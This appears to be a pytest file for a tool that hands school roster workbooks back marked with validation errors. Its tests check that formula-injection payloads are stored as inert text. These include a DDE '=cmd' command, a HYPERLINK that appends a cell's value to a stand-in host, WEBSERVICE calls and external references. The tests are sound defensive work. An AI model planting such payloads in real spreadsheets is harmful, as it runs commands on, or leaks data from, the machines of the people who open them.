import io

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill

from app.spreadsheets import writer
from app.spreadsheets.check import Finding
from app.spreadsheets.reader import Typed, read_rows

from . import files

DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x")']
HEADER = ["姓名", "性别", "民族"]
ROWS = [(2, ["方小雨", "女", "汉族"]), (3, ["", "2", "汉"]), (5, ["=1+1", Typed("number", "3"), "壮族"])]
FINDINGS = [
    Finding(3, "A", "姓名", "", "没有填写姓名", "请填写户口簿上的姓名", "没有填写"),
    Finding(3, "C", "民族", "汉", "没有叫“汉”的民族", "请填“汉族”", "不在代码表中"),
    Finding(3, "C", "民族", "汉", "另一个问题", "请核对", "另一个", "warn"),
    Finding(5, "B", "性别", "3", "性别没有代码 3", "请填“男”或“女”", "不在代码表中", "warn"),
]
TOTALS = [("民族", "不在代码表中", "须改正", 1, "3"), ("=性别", "不在代码表中", "请核实", 1, "5")]
WHY = "【姓名】没有填写姓名。请填写户口簿上的姓名。\n【民族】没有叫“汉”的民族。请填“汉族”。\n（请核实）【民族】另一个问题。请核对。"


def opened(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def values(page):
    return [[cell.value for cell in row] for row in page.iter_rows()]


def color(cell):
    return cell.fill.fgColor.rgb if cell.fill.fill_type else None


def test_a_list_holds_text_as_text_and_numbers_as_numbers():
    data = writer.table(["姓名", "人数", "备注"], [["方小雨", 3, None], *[[text, 0.5, ""] for text in DANGEROUS]], "一年级[1]/班")

    page = opened(data).active
    assert page.title == "一年级 1  班"
    assert values(page)[:2] == [["姓名", "人数", "备注"], ["方小雨", 3, None]]
    assert [row[0].value for row in page.iter_rows(min_row=3)] == [text.replace("\r", "_x000D_") for text in DANGEROUS]
    assert {cell.data_type for (cell,) in page.iter_rows(min_row=2, max_col=1)} == {"s"}
    assert read_rows(data, "a.xlsx").rows[1] == (3, ["=1+1", Typed("number", "0.5")])
    assert page.freeze_panes == "A2"


def test_the_same_facts_give_the_same_bytes():
    original = files.xlsx([HEADER, *[[writer.text_of(cell) for cell in cells] for _, cells in ROWS]])
    for make in (
        lambda: writer.table(HEADER, [["方小雨", 2, "x"]]),
        lambda: writer.bad_rows(HEADER, ROWS, FINDINGS, TOTALS),
        lambda: writer.marked(original, "Sheet1", 1, FINDINGS, TOTALS),
    ):
        assert make() == make()


def test_bad_rows_come_back_alone_with_their_numbers_and_can_be_read_again():
    data = writer.bad_rows(HEADER, ROWS, FINDINGS, TOTALS)

    page, totals = opened(data).worksheets
    assert values(page) == [
        ["原行号", "错误原因", *HEADER],
        [3, WHY, None, "2", "汉"],
        [5, "（请核实）【性别】性别没有代码 3。请填“男”或“女”。", "=1+1", 3, "壮族"],
    ]
    assert page["C3"].data_type == "s"
    filled = {cell.coordinate: color(cell) for row in page.iter_rows(min_row=2) for cell in row if color(cell)}
    assert filled == {"C2": "FFFBD5D0", "E2": "FFFBD5D0", "D3": "FFFDF0C8"}
    comments = {cell.coordinate: cell.comment.text for row in page.iter_rows() for cell in row if cell.comment}
    assert comments == {
        "C2": "没有填写姓名。请填写户口簿上的姓名。",
        "E2": "没有叫“汉”的民族。请填“汉族”。\n另一个问题。请核对。",
        "D3": "性别没有代码 3。请填“男”或“女”。",
    }
    assert values(totals) == [list(writer.TOTALS_TITLES), *map(list, TOTALS)]
    assert read_rows(data, "a.xlsx").rows[1][1][2:] == ["=1+1", Typed("number", "3"), "壮族"]


@pytest.fixture
def uploaded():
    """As a clerk left it: a wide column, a note of her own, a colour, a formula, a second sheet, a blank row."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "一年级"
    for row, cells in [(1, HEADER), (2, ["方小雨", "女", "汉族"]), (3, [None, "2", "汉"]), (5, ["x", 3, "壮族"])]:
        for place, value in enumerate(cells, 1):
            page.cell(row, place, value)
    page["A5"].value, page["A5"].data_type = "=1+1", "s"
    page["C3"].comment = Comment("问过家长", "王老师")
    page["A2"].fill = PatternFill("solid", fgColor="FF00FF00")
    page["C2"].number_format = "@"
    page.column_dimensions["A"].width = 33
    book.create_sheet("备忘")["B2"] = "=1+2"
    book.create_sheet("汇总")["A1"] = "我的汇总"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_uploaded_workbook_comes_back_marked_in_its_very_cells(uploaded):
    book = opened(writer.marked(uploaded, "一年级", 1, FINDINGS, TOTALS))
    page = book["一年级"]

    assert book.sheetnames == ["一年级", "备忘", "汇总", "汇总2"]
    assert values(page) == [
        [*HEADER, "错误原因"],
        ["方小雨", "女", "汉族", None],
        [None, "2", "汉", WHY],
        [None, None, None, None],
        ["=1+1", 3, "壮族", "（请核实）【性别】性别没有代码 3。请填“男”或“女”。"],
    ]
    assert page["A5"].data_type == "s"
    filled = {cell.coordinate: color(cell) for row in page.iter_rows(min_row=2) for cell in row if color(cell)}
    assert filled == {"A2": "FF00FF00", "A3": "FFFBD5D0", "C3": "FFFBD5D0", "B5": "FFFDF0C8"}
    assert page["C3"].comment.text == "问过家长\n【核对】没有叫“汉”的民族。请填“汉族”。\n另一个问题。请核对。"
    assert page["A3"].comment.text == "【核对】没有填写姓名。请填写户口簿上的姓名。"
    assert (page.column_dimensions["A"].width, page["C2"].number_format) == (33, "@")
    assert (book["备忘"]["B2"].value, book["汇总"]["A1"].value) == ("=1+2", "我的汇总")
    assert values(book["汇总2"]) == [list(writer.TOTALS_TITLES), *map(list, TOTALS)]
    assert book["汇总2"]["A3"].data_type == "s"


def test_a_second_round_takes_the_first_ones_marks_away(uploaded):
    once = writer.marked(uploaded, "一年级", 1, FINDINGS, TOTALS)
    book = opened(writer.marked(once, "一年级", 1, FINDINGS[-1:], TOTALS[1:]))
    page = book["一年级"]

    assert book.sheetnames == ["一年级", "备忘", "汇总", "汇总2"]
    assert [row[3] for row in values(page)] == ["错误原因", None, None, None, "（请核实）【性别】性别没有代码 3。请填“男”或“女”。"]
    filled = {cell.coordinate: color(cell) for row in page.iter_rows(min_row=2) for cell in row if color(cell)}
    assert filled == {"A2": "FF00FF00", "B5": "FFFDF0C8"}
    comments = {cell.coordinate: cell.comment.text for row in page.iter_rows() for cell in row if cell.comment}
    assert comments == {"C3": "问过家长", "B5": "【核对】性别没有代码 3。请填“男”或“女”。"}
    assert values(book["汇总2"])[1:] == [list(TOTALS[1])]


def test_the_other_reader_finds_the_marked_rows_where_they_were(uploaded):
    before = read_rows(uploaded, "a.xlsx")
    after = read_rows(writer.marked(uploaded, "一年级", 1, FINDINGS, TOTALS), "a.xlsx")

    assert after.header == [*before.header, "错误原因"]
    assert [(row, cells[:3]) for row, cells in after.rows] == [(row, cells[:3]) for row, cells in before.rows]


def test_a_workbook_that_xlsxwriter_made_is_marked_too():
    data = files.xlsx([HEADER, ["方小雨", "=1+1", 3]])
    page = opened(writer.marked(data, "Sheet1", 1, [Finding(2, "C", "民族", "3", "坏\x00字", "请核对\x1f", "坏字")], [])).worksheets[0]

    assert values(page) == [[*HEADER, "错误原因"], ["方小雨", "=1+1", 3, "【民族】坏字。请核对。"]]
    assert page["B2"].data_type == "s"


def test_a_fault_inside_a_merged_cell_is_told_in_the_reason_column(uploaded):
    book = opened(uploaded)
    book["一年级"].merge_cells("C2:C3")
    out = io.BytesIO()
    book.save(out)

    page = opened(writer.marked(out.getvalue(), "一年级", 1, FINDINGS, TOTALS))["一年级"]

    assert (page["D3"].value, [str(cells) for cells in page.merged_cells.ranges]) == (WHY, ["C2:C3"])


def test_what_openpyxl_cannot_open_is_said_so():
    broken = files.repacked(files.xlsx([HEADER, ["方小雨"]]), replace={"xl/styles.xml": lambda _: b"<styleSheet><cellXfs/>"})
    with pytest.raises(writer.CannotBeMarked):
        writer.marked(broken, "Sheet1", 1, FINDINGS, TOTALS)
    with pytest.raises(writer.CannotBeMarked):
        writer.marked(files.xlsx([HEADER]), "没有这张表", 1, FINDINGS, TOTALS)


def test_a_formula_that_reaches_beyond_the_workbook_comes_back_as_its_text():
    """Whoever checks the list opens the marked workbook in good faith: what the school put into it starts nothing and asks nobody there."""
    outward = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&B2,"张三")', '=WEBSERVICE("http://x.example")', "='[其他.xlsx]表'!A1", '=_xlfn.IMAGE("x")', "=DDE(1,2)"]
    book = openpyxl.Workbook()
    for title in ("名册", "说明"):
        page = book.create_sheet(title)
        for row, formula in enumerate([*outward, "=MID(B2,7,8)", "=SUM(A1:A3)+1"], 2):
            page.cell(row, 1, formula)
    out = io.BytesIO()
    book.save(out)
    marked = opened(writer.marked(out.getvalue(), "名册", 1, FINDINGS, TOTALS))
    for title in ("名册", "说明"):
        cells = [marked[title].cell(row, 1) for row in range(2, 10)]
        assert [cell.value for cell in cells[:6]] == outward and {cell.data_type for cell in cells[:6]} == {"s"}
        assert [(cell.value, cell.data_type) for cell in cells[6:]] == [("=MID(B2,7,8)", "f"), ("=SUM(A1:A3)+1", "f")]
